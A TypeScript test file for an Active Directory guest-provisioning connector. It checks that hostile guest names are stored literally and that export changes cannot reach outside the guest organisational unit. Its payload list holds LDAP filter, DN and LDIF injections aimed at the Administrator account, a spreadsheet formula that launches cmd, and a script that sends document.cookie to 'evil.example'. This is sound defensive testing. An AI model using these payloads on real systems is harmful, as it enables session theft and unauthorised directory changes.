/** What a guest can put into the own name, address and principal name, and where it could do harm. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { AdConnector } from "../../src/engine/connectors/ad/adConnector.ts";
import type { ExportChange } from "../../src/engine/ports/connector.ts";
import { adSettings, guestDefinition } from "../support/activeDirectory.ts";
import { type GraphUser, Home } from "../support/guestHome.ts";

let home: Home;
const invited = new Map<string, GraphUser>();

const hostile = [
  "*)(objectClass=*))(|(cn=*",
  "*",
  "\\2a\\00",
  "x,OU=Domain Controllers,DC=contoso,DC=local",
  "CN=Administrator,CN=Users,DC=contoso,DC=local",
  "#04024869",
  " leading, and trailing \\",
  `"><script>fetch('//evil.example/'+document.cookie)</script>`,
  "=cmd|' /C calc'!A0",
  "{{constructor.constructor('return 1')()}} #{1+1} %GuestOU% [userPrincipalName]",
  "line\r\ndn: CN=Administrator,CN=Users,DC=contoso,DC=local\r\nchangetype: delete",
  "\u202egnp.exe \ud83d\ude00 \u0130\u0131 ﷽",
  "__proto__",
  "NULL",
] as const;

/** Without what belongs to guests, and what a directory changes by itself. */
async function others(): Promise<unknown> {
  const all = await home.administrator.everything(home.directory.baseDn);
  return [...all]
    .filter(([dn]) => !dn.endsWith(home.directory.guestOu))
    .map(([dn, entry]) => [dn, { ...(entry as object), logonCount: 0, lastLogon: 0 }]);
}
const accounts = async () =>
  [...(await home.administrator.everything(home.directory.guestOu)).values()] as Record<string, string>[];

beforeAll(async () => {
  home = await Home.open();
});
afterAll(() => home?.close());

test("every name arrives to the letter, at the account of that guest, and at nothing else", async () => {
  const before = await others();
  for (const [number, name] of hostile.entries()) {
    const { users } = (await home.graph("POST", "/guests", {
      displayName: name,
      givenName: name.slice(0, 60),
      surname: name.slice(0, 60),
      mail: `guest${number}*)(mail=*@fabrikam.example`,
      userPrincipalName: `*)(cn=*))(|(userPrincipalName=*${number}_fabrikam.example#EXT#@contoso.onmicrosoft.com`,
    })) as { users: GraphUser[] };
    invited.set(name, users[0]!);
  }
  await home.cycle();
  for (const [name, { id, userPrincipalName, mail }] of invited) {
    expect(await home.account(id), name).toMatchObject({
      dn: [`CN=${id},${home.directory.guestOu}`],
      displayName: [name],
      givenName: [name.slice(0, 60)],
      sn: [name.slice(0, 60)],
      mail: [mail],
      userPrincipalName: [userPrincipalName],
      adminDescription: [`User_${id}`],
      sAMAccountName: [id.slice(0, 20)],
    });
  }
  const made = (await accounts()).filter(({ adminDescription }) => adminDescription?.startsWith("User_"));
  expect(made).toHaveLength(hostile.length);
  expect(await others()).toEqual(before);
  await home.cycle();
  expect((await accounts()).length).toBe(made.length + 2); // the OU itself, and the one for archives
});

test("a principal name that reads as a filter finds its own holder, and nobody else", async () => {
  const userPrincipalName = "*)(objectClass=*_fabrikam.example#EXT#@contoso.onmicrosoft.com";
  const holder = `CN=Holder,CN=Users,${home.directory.baseDn}`;
  await home.administrator.addUser(holder, { sAMAccountName: "holder", userPrincipalName });
  const { users } = (await home.graph("POST", "/guests", {
    displayName: "Mallory",
    mail: "mallory@fabrikam.example",
    userPrincipalName,
  })) as { users: GraphUser[] };
  const before = await others();
  const run = await home.world.cycle("delta");
  const step = run.steps.findIndex(({ type }) => type === "export");
  const errors = await home.world.engine.history.errors(run.id, step, 10);
  expect(errors).toMatchObject([{ code: "cd-existing-object", message: expect.stringContaining(holder) }]);
  expect(await home.account(users[0]!.id)).toBeUndefined();
  expect(await others()).toEqual(before);
  await home.graph("POST", `/users/${users[0]!.id}/purge`);
  await home.administrator.delete(holder);
});

test("a name that is too long is that guest's error; the others go on", async () => {
  const [{ id }] = [...invited.values()] as [GraphUser];
  await home.graph("PATCH", `/users/${id}`, { displayName: "x".repeat(300) });
  const [, other] = [...invited.values()];
  await home.graph("PATCH", `/users/${other!.id}`, { displayName: "Goes on" });
  const run = await home.world.cycle("delta");
  expect(run.status).toBe("completed-export-errors");
  expect((await home.account(id))?.displayName).toEqual([hostile[0]]);
  expect((await home.account(other!.id))?.displayName).toEqual(["Goes on"]);
});

describe("a rule that is wrong, or means ill, and builds names from what a guest typed", () => {
  const change = (more: Partial<ExportChange>): ExportChange => ({
    id: "1",
    objectType: "user",
    change: "add",
    anchor: null,
    dn: `CN=x,${home.directory.guestOu}`,
    attributes: [],
    outcomeUnknown: false,
    ...more,
  });

  test("writes nothing outside of the connector's organisational units", async () => {
    const { baseDn, guestOu } = home.directory;
    const connector = new AdConnector(guestDefinition, adSettings(home.directory));
    const before = await others();
    const administrator = await home.administrator.anchorOf(`CN=Administrator,CN=Users,${baseDn}`);
    const [account] = [...invited.values()];
    const own = await home.administrator.anchorOf(`CN=${account!.id},${guestOu}`);
    const values = [{ name: "displayName", after: "Mallory", rule: "r" }];
    const escaped = guestOu.replaceAll(",", "\\,");
    const attempts = [
      change({ dn: `CN=x,CN=Users,${baseDn}` }),
      change({ dn: `CN=x,OU=Domain Controllers,${baseDn}` }),
      change({ dn: `CN=x\\,${escaped},CN=Users,${baseDn}` }),
      change({ dn: `CN=x,OU=Staff,${baseDn},${guestOu}` }),
      change({ dn: `CN=x+OU=y,${guestOu}` }),
      change({ dn: `CN=x,<WKGUID=A9D1CA15768811D1ADED00C04FD8D5CD,${baseDn}>` }),
      change({ dn: guestOu, change: "delete", anchor: administrator }),
      change({ change: "update", anchor: administrator, attributes: values }),
      change({ change: "delete", anchor: administrator }),
      change({ change: "update", anchor: own, newDn: `CN=x,CN=Users,${baseDn}` }),
    ];
    for (const attempt of attempts) {
      const [result] = await connector.exportBatch([attempt], { log: () => undefined });
      expect(result, JSON.stringify(attempt)).toMatchObject({ kind: "failed" });
    }
    expect(await others()).toEqual(before);
    expect(await home.administrator.anchorOf(`CN=${account!.id},${guestOu}`)).toBe(own);
    await connector.close();
  });
});
